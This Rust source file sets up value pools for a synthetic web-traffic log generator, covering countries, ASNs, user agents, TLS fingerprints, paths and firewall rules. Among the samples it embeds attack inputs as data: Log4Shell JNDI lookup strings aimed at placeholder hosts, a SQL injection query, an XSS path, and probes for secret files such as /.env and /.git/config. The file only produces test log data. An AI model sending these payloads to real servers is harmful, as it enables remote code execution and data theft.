//! Value pools that generated records draw from, built once.
//!
//! Every string stored here is already valid JSON string content (no quotes, backslashes or control
//! characters), so the renderer can copy bytes without escaping.

use std::sync::OnceLock;

use crate::rng::Rng;

pub struct Country {
    /// Lowercase ISO code, as Logpull renders `ClientCountry`.
    pub code: &'static str,
    pub city: &'static str,
    pub region: &'static str,
    pub lat: &'static str,
    pub lon: &'static str,
    pub asns: &'static [(u32, &'static str)],
    pub colo: &'static str,
    pub colo_id: u32,
    pub base_rtt_ms: u32,
}

pub const COUNTRIES: &[Country] = &[
    Country {
        code: "us",
        city: "Ashburn",
        region: "VA",
        lat: "39.04380",
        lon: "-77.48740",
        asns: &[
            (14618, "AMAZON-AES"),
            (7922, "COMCAST-7922"),
            (15169, "GOOGLE"),
        ],
        colo: "IAD",
        colo_id: 14,
        base_rtt_ms: 90,
    },
    Country {
        code: "de",
        city: "Frankfurt am Main",
        region: "HE",
        lat: "50.11090",
        lon: "8.68210",
        asns: &[
            (3320, "DTAG Internet service provider operations"),
            (24940, "HETZNER-AS"),
        ],
        colo: "FRA",
        colo_id: 20,
        base_rtt_ms: 8,
    },
    Country {
        code: "fr",
        city: "Paris",
        region: "IDF",
        lat: "48.85660",
        lon: "2.35220",
        asns: &[(3215, "Orange S.A."), (16276, "OVH SAS")],
        colo: "CDG",
        colo_id: 19,
        base_rtt_ms: 12,
    },
    Country {
        code: "gb",
        city: "London",
        region: "ENG",
        lat: "51.50740",
        lon: "-0.12780",
        asns: &[
            (2856, "British Telecommunications PLC"),
            (5089, "Virgin Media Limited"),
        ],
        colo: "LHR",
        colo_id: 9,
        base_rtt_ms: 14,
    },
    Country {
        code: "nl",
        city: "Amsterdam",
        region: "NH",
        lat: "52.36760",
        lon: "4.90410",
        asns: &[(1136, "KPN B.V."), (60781, "LeaseWeb Netherlands B.V.")],
        colo: "AMS",
        colo_id: 21,
        base_rtt_ms: 9,
    },
    Country {
        code: "pl",
        city: "Warsaw",
        region: "14",
        lat: "52.22970",
        lon: "21.01220",
        asns: &[(5617, "Orange Polska Spolka Akcyjna")],
        colo: "WAW",
        colo_id: 89,
        base_rtt_ms: 20,
    },
    Country {
        code: "es",
        city: "Madrid",
        region: "MD",
        lat: "40.41680",
        lon: "-3.70380",
        asns: &[(3352, "TELEFONICA DE ESPANA S.A.U.")],
        colo: "MAD",
        colo_id: 113,
        base_rtt_ms: 22,
    },
    Country {
        code: "it",
        city: "Milan",
        region: "25",
        lat: "45.46420",
        lon: "9.19000",
        asns: &[(3269, "Telecom Italia S.p.A.")],
        colo: "MXP",
        colo_id: 67,
        base_rtt_ms: 18,
    },
    Country {
        code: "se",
        city: "Stockholm",
        region: "AB",
        lat: "59.32930",
        lon: "18.06860",
        asns: &[(3301, "Telia Company AB")],
        colo: "ARN",
        colo_id: 48,
        base_rtt_ms: 25,
    },
    Country {
        code: "at",
        city: "Wien",
        region: "9",
        lat: "48.20820",
        lon: "16.37380",
        asns: &[(8447, "A1 Telekom Austria AG")],
        colo: "VIE",
        colo_id: 70,
        base_rtt_ms: 16,
    },
    Country {
        code: "br",
        city: "São Paulo",
        region: "SP",
        lat: "-23.55050",
        lon: "-46.63330",
        asns: &[(28573, "Claro NXT Telecomunicacoes Ltda")],
        colo: "GRU",
        colo_id: 40,
        base_rtt_ms: 180,
    },
    Country {
        code: "in",
        city: "Mumbai",
        region: "MH",
        lat: "19.07600",
        lon: "72.87770",
        asns: &[(55836, "Reliance Jio Infocomm Limited")],
        colo: "BOM",
        colo_id: 37,
        base_rtt_ms: 140,
    },
    Country {
        code: "jp",
        city: "Tokyo",
        region: "13",
        lat: "35.67620",
        lon: "139.65030",
        asns: &[(2516, "KDDI CORPORATION")],
        colo: "NRT",
        colo_id: 25,
        base_rtt_ms: 220,
    },
    Country {
        code: "cn",
        city: "Beijing",
        region: "BJ",
        lat: "39.90420",
        lon: "116.40740",
        asns: &[(4134, "CHINANET-BACKBONE")],
        colo: "HKG",
        colo_id: 11,
        base_rtt_ms: 240,
    },
    Country {
        code: "ru",
        city: "Moscow",
        region: "MOW",
        lat: "55.75580",
        lon: "37.61730",
        asns: &[(12389, "PJSC Rostelecom")],
        colo: "DME",
        colo_id: 64,
        base_rtt_ms: 45,
    },
    Country {
        code: "sg",
        city: "Singapore",
        region: "01",
        lat: "1.35210",
        lon: "103.81980",
        asns: &[(16509, "AMAZON-02")],
        colo: "SIN",
        colo_id: 12,
        base_rtt_ms: 190,
    },
    Country {
        code: "au",
        city: "Sydney",
        region: "NSW",
        lat: "-33.86880",
        lon: "151.20930",
        asns: &[(1221, "Telstra Limited")],
        colo: "SYD",
        colo_id: 7,
        base_rtt_ms: 260,
    },
    Country {
        code: "ca",
        city: "Toronto",
        region: "ON",
        lat: "43.65320",
        lon: "-79.38320",
        asns: &[(812, "Rogers Communications Canada Inc.")],
        colo: "YYZ",
        colo_id: 38,
        base_rtt_ms: 100,
    },
];

/// Weights per country index above (a European-leaning audience).
const COUNTRY_WEIGHTS: &[u32] = &[22, 18, 9, 9, 7, 4, 4, 4, 2, 2, 3, 4, 2, 3, 2, 1, 2, 2];

pub struct UserAgent {
    pub ua: &'static str,
    pub device: &'static str,
    /// `ClientIPClass`, `VerifiedBotCategory`, `BotScoreSrc`, bot score range.
    pub bot: Option<(&'static str, &'static str)>,
    pub ja3: &'static str,
    pub ja4: &'static str,
}

pub const USER_AGENTS: &[UserAgent] = &[
    UserAgent {
        ua: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/138.0.0.0 Safari/537.36",
        device: "desktop",
        bot: None,
        ja3: "cd08e31494f9531f560d64c695473da9",
        ja4: "t13d1516h2_8daaf6152771_02713d6af862",
    },
    UserAgent {
        ua: "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.5 Safari/605.1.15",
        device: "desktop",
        bot: None,
        ja3: "773906b0efdefa24a7f2b8eb6985bf37",
        ja4: "t13d2014h2_a09f3c656075_14788d8d241b",
    },
    UserAgent {
        ua: "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0",
        device: "desktop",
        bot: None,
        ja3: "579ccef312d18482fc42e2b822ca2430",
        ja4: "t13d1715h2_5b57614c22b0_3d5424432f57",
    },
    UserAgent {
        ua: "Mozilla/5.0 (iPhone; CPU iPhone OS 18_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.5 Mobile/15E148 Safari/604.1",
        device: "mobile",
        bot: None,
        ja3: "773906b0efdefa24a7f2b8eb6985bf37",
        ja4: "t13d2014h2_a09f3c656075_14788d8d241b",
    },
    UserAgent {
        ua: "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/138.0.0.0 Mobile Safari/537.36",
        device: "mobile",
        bot: None,
        ja3: "cd08e31494f9531f560d64c695473da9",
        ja4: "t13d1516h2_8daaf6152771_02713d6af862",
    },
    UserAgent {
        ua: "Mozilla/5.0 (iPad; CPU OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Mobile/15E148 Safari/604.1",
        device: "tablet",
        bot: None,
        ja3: "773906b0efdefa24a7f2b8eb6985bf37",
        ja4: "t13d2014h2_a09f3c656075_14788d8d241b",
    },
    UserAgent {
        ua: "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        device: "desktop",
        bot: Some(("searchEngine", "Search Engine Crawler")),
        ja3: "3b5074b1b5d032e5620f69f9f700ff0e",
        ja4: "t13d1713h2_5b57614c22b0_748f4c70de1c",
    },
    UserAgent {
        ua: "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
        device: "desktop",
        bot: Some(("searchEngine", "Search Engine Crawler")),
        ja3: "3b5074b1b5d032e5620f69f9f700ff0e",
        ja4: "t13d1713h2_5b57614c22b0_748f4c70de1c",
    },
    UserAgent {
        ua: "Mozilla/5.0 (compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
        device: "desktop",
        bot: Some(("monitoringService", "Monitoring & Analytics")),
        ja3: "e7d705a3286e19ea42f587b344ee6865",
        ja4: "t13d311100_e8f1e7e78f70_d41ae481755e",
    },
    UserAgent {
        ua: "curl/8.14.1",
        device: "desktop",
        bot: None,
        ja3: "456523fc94726331a4d5a2e1d40b2cd7",
        ja4: "t13d4907h2_0d8feac7bc37_7395dae3b2f3",
    },
    UserAgent {
        ua: "python-requests/2.32.4",
        device: "desktop",
        bot: None,
        ja3: "8d9f7747675e24454cd9b7ed35c58707",
        ja4: "t13d5811h1_2d2ea2a22b2a_e7c285222651",
    },
    UserAgent {
        ua: "Go-http-client/2.0",
        device: "desktop",
        bot: None,
        ja3: "473cd7cb9faa642487833865d516e578",
        ja4: "t13d1311h2_f57a46bbacb6_ab7e3b40a677",
    },
    UserAgent {
        ua: "okhttp/4.12.0",
        device: "mobile",
        bot: None,
        ja3: "9b02ebd3a43b62d825e1ac605b621dc6",
        ja4: "t13d1611h2_b8f40d4b0bbf_bf8d0fe4d8ea",
    },
    UserAgent {
        ua: "${jndi:ldap://198.51.100.23:1389/Exploit}",
        device: "desktop",
        bot: None,
        ja3: "19e29534fd49dd27d09234e639c4057e",
        ja4: "t12d1207h1_62dc7b9a5d52_7af1ed941c26",
    },
    UserAgent {
        ua: "sqlmap/1.8.4#stable (https://sqlmap.org)",
        device: "desktop",
        bot: None,
        ja3: "19e29534fd49dd27d09234e639c4057e",
        ja4: "t12d1207h1_62dc7b9a5d52_7af1ed941c26",
    },
];

const UA_WEIGHTS: &[u32] = &[30, 14, 6, 16, 14, 3, 4, 2, 1, 3, 2, 2, 2, 1, 1];

pub const METHODS: &[(&str, u32)] = &[
    ("GET", 820),
    ("POST", 110),
    ("HEAD", 30),
    ("OPTIONS", 15),
    ("PUT", 12),
    ("DELETE", 8),
    ("PATCH", 5),
];

#[derive(Clone, Copy, PartialEq, Eq)]
pub enum PathKind {
    Page,
    Api,
    Asset,
    Image,
    Probe,
}

pub struct PathEntry {
    pub path: String,
    pub kind: PathKind,
    pub content_type: &'static str,
}

pub const QUERIES: &[&str] = &[
    "?page=2",
    "?q=invoice",
    "?utm_source=newsletter&utm_medium=email",
    "?id=1%27%20OR%20%271%27=%271",
    "?lang=de",
    "?sort=price_asc&limit=50",
    "?v=3.2.1",
    "?redirect=${jndi:dns://203.0.113.9/x}",
];

pub const PROTOCOLS: &[(&str, u32)] = &[("HTTP/2", 62), ("HTTP/1.1", 25), ("HTTP/3", 13)];
pub const SSL: &[((&str, &str), u32)] = &[
    (("TLSv1.3", "AEAD-AES128-GCM-SHA256"), 55),
    (("TLSv1.3", "AEAD-CHACHA20-POLY1305-SHA256"), 10),
    (("TLSv1.2", "ECDHE-ECDSA-AES128-GCM-SHA256"), 20),
    (("TLSv1.2", "ECDHE-RSA-AES256-GCM-SHA384"), 5),
    (("none", "NONE"), 10),
];

pub const RULES: &[(&str, &str, &str)] = &[
    (
        "5de7edfa648c4d6891dc3e7f84534ffa",
        "Log4j Headers",
        "firewallManaged",
    ),
    (
        "e3a567afc347477d9702d9047e97d760",
        "SQLi - Comment",
        "firewallManaged",
    ),
    (
        "6179ae15870a4bb7b2d480d4843b323c",
        "XSS - JavaScript Events",
        "firewallManaged",
    ),
    (
        "8b036974b90d4f9d8a6fbcf1a45a1c4e",
        "Block admin paths outside EU",
        "firewallCustom",
    ),
    (
        "0b0d4e3f85a34e6c9b1f2a7d6e5c4b3a",
        "Login brute force",
        "rateLimit",
    ),
];

pub struct Pools {
    pub clients: Vec<Client>,
    pub paths: Vec<PathEntry>,
    pub edge_ips: Vec<String>,
    /// Request durations (log-normal, median ~30 ms), so records need no transcendental maths.
    pub durations_ns: Vec<i64>,
    /// Paths from this index on are attack probes.
    pub probe_start: usize,
    ua_weights: Vec<(usize, u32)>,
}

pub struct Client {
    pub ip: String,
    pub country: usize,
    pub asn: u32,
    pub asn_desc: &'static str,
    pub ua: usize,
    pub ip_class: &'static str,
}

impl Pools {
    pub fn get() -> &'static Pools {
        static POOLS: OnceLock<Pools> = OnceLock::new();
        POOLS.get_or_init(Pools::build)
    }

    fn build() -> Pools {
        let mut rng = Rng::new(0x5eed_c1f5_1a70_0001);
        let country_weights: Vec<(usize, u32)> =
            COUNTRY_WEIGHTS.iter().copied().enumerate().collect();
        let ua_weights: Vec<(usize, u32)> = UA_WEIGHTS.iter().copied().enumerate().collect();
        let clients = (0..6000)
            .map(|i| {
                let country = rng.weighted(&country_weights);
                let (asn, asn_desc) =
                    COUNTRIES[country].asns[rng.below_usize(COUNTRIES[country].asns.len())];
                let ua = rng.weighted(&ua_weights);
                let ip = if i % 5 == 4 {
                    random_ipv6(&mut rng)
                } else {
                    random_ipv4(&mut rng)
                };
                let ip_class = match USER_AGENTS[ua].bot {
                    Some((class, _)) => class,
                    None if rng.chance(0.01) => "tor",
                    None if rng.chance(0.02) => "badHost",
                    None => "noRecord",
                };
                Client {
                    ip,
                    country,
                    asn,
                    asn_desc,
                    ua,
                    ip_class,
                }
            })
            .collect();
        let paths = build_paths(&mut rng);
        let probe_start = paths
            .iter()
            .position(|p| p.kind == PathKind::Probe)
            .unwrap_or(paths.len());
        let durations_ns = (0..4096)
            .map(|_| ((rng.normal() * 1.1 + 17.2).exp() as i64).clamp(80_000, 30_000_000_000))
            .collect();
        Pools {
            clients,
            paths,
            edge_ips: build_edge_ips(&mut rng),
            durations_ns,
            probe_start,
            ua_weights,
        }
    }

    pub fn random_ua(&self, rng: &mut Rng) -> usize {
        rng.weighted(&self.ua_weights)
    }
}

fn random_ipv4(rng: &mut Rng) -> String {
    loop {
        let a = 1 + rng.below(223) as u8;
        // Skip private, loopback and carrier-grade ranges so addresses look like real clients.
        if matches!(a, 10 | 100 | 127 | 169 | 172 | 192) {
            continue;
        }
        return format!(
            "{a}.{}.{}.{}",
            rng.below(256),
            rng.below(256),
            1 + rng.below(254)
        );
    }
}

fn random_ipv6(rng: &mut Rng) -> String {
    const PREFIXES: &[&str] = &[
        "2a02:810d",
        "2001:4860",
        "2a01:cb00",
        "2600:1700",
        "2003:e8",
        "2a00:23c6",
    ];
    let prefix = PREFIXES[rng.below_usize(PREFIXES.len())];
    format!(
        "{prefix}:{:x}:{:x}:{:x}:{:x}:{:x}:{:x}",
        rng.below(0x10000),
        rng.below(0x10000),
        rng.below(0x10000),
        rng.below(0x10000),
        rng.below(0x10000),
        rng.below(0x10000)
    )
}

fn build_edge_ips(rng: &mut Rng) -> Vec<String> {
    (0..64)
        .map(|_| format!("172.70.{}.{}", rng.below(256), 1 + rng.below(254)))
        .collect()
}

fn hex(rng: &mut Rng, digits: usize) -> String {
    let mut s = format!("{:016x}{:016x}", rng.next_u64(), rng.next_u64());
    s.truncate(digits);
    s
}

fn build_paths(rng: &mut Rng) -> Vec<PathEntry> {
    let mut paths = Vec::new();
    let mut push = |path: String, kind: PathKind, content_type: &'static str| {
        paths.push(PathEntry {
            path,
            kind,
            content_type,
        })
    };
    for p in [
        "/",
        "/about",
        "/pricing",
        "/blog",
        "/contact",
        "/login",
        "/account",
        "/checkout",
        "/search",
        "/de/",
        "/fr/",
    ] {
        push(p.to_owned(), PathKind::Page, "text/html");
    }
    for i in 0..300 {
        push(
            format!("/blog/{}-post-{}", 2019 + i % 7, rng.below(100_000)),
            PathKind::Page,
            "text/html",
        );
        push(
            format!("/products/{}", 1000 + rng.below(90_000)),
            PathKind::Page,
            "text/html",
        );
    }
    for i in 0..400 {
        let api = match i % 5 {
            0 => format!("/api/v1/users/{}", rng.below(1_000_000)),
            1 => format!("/api/v1/orders/{}", hex(rng, 12)),
            2 => "/api/v1/session".to_owned(),
            3 => format!("/api/v2/catalog/items/{}/stock", rng.below(50_000)),
            _ => "/graphql".to_owned(),
        };
        push(api, PathKind::Api, "application/json");
    }
    for _ in 0..200 {
        push(
            format!("/static/js/app.{}.js", hex(rng, 8)),
            PathKind::Asset,
            "application/javascript",
        );
        push(
            format!("/static/css/main.{}.css", hex(rng, 8)),
            PathKind::Asset,
            "text/css",
        );
        push(
            format!("/images/{}.webp", hex(rng, 10)),
            PathKind::Image,
            "image/webp",
        );
        push(
            format!("/images/thumbs/{}.png", rng.below(100_000)),
            PathKind::Image,
            "image/png",
        );
    }
    push("/favicon.ico".to_owned(), PathKind::Image, "image/x-icon");
    push("/robots.txt".to_owned(), PathKind::Asset, "text/plain");
    for p in [
        "/wp-login.php",
        "/.env",
        "/.git/config",
        "/phpmyadmin/index.php",
        "/cgi-bin/luci/;stok=/locale",
        "/%3Cscript%3Ealert(1)%3C/script%3E",
        "/${jndi:ldap://198.51.100.23:1389/a}",
        "/admin/config.php",
        "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    ] {
        push(p.to_owned(), PathKind::Probe, "text/html");
    }
    paths
}

/// Escape a string for inclusion inside JSON quotes.
pub fn json_escape(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            c if (c as u32) < 0x20 => out.push_str(&format!("\\u{:04x}", c as u32)),
            c => out.push(c),
        }
    }
    out
}
